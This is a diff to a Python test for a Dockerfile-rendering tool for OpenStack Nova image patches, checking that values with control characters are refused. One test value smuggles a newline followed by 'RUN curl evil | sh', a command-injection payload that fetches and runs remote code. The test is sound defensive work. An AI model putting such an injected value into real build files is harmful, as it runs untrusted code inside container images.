@@ -116,14 +116,15 @@ def test_patch_of_only_tests_has_no_parts():
 
 def test_a_value_with_a_control_character_is_never_rendered_into_a_dockerfile():
     from apex_tools.core.render_safety import RenderError
-    from apex_tools.patching.dockerfile import ImagePatch, render_dockerfile
+    from apex_tools.patching.dockerfile import ImagePatch, image_labels, render_dockerfile
 
     evil = ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova\nRUN curl evil | sh", "I" + "a" * 40,
                       "b" * 40)
     with pytest.raises(RenderError, match=r"control character \\n; refusing to write it into a dockerfile document"):
-        render_dockerfile("registry/nova-api:tag", "nova", [evil])
-    assert "RUN cd /usr/lib" in render_dockerfile("registry/nova-api:tag", "nova", [
-        ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova", "I" + "a" * 40, "b" * 40)])
+        render_dockerfile("registry/nova-api:tag", "nova", [evil], image_labels("registry/nova-api:tag", [evil]))
+    good = [ImagePatch("01-x.patch", "/usr/lib/python3/site-packages", "openstack/nova", "I" + "a" * 40, "b" * 40)]
+    assert "RUN cd /usr/lib" in render_dockerfile("registry/nova-api:tag", "nova", good,
+                                                  image_labels("registry/nova-api:tag", good))
 
 
 @pytest.mark.parametrize("kind, value, ok", [
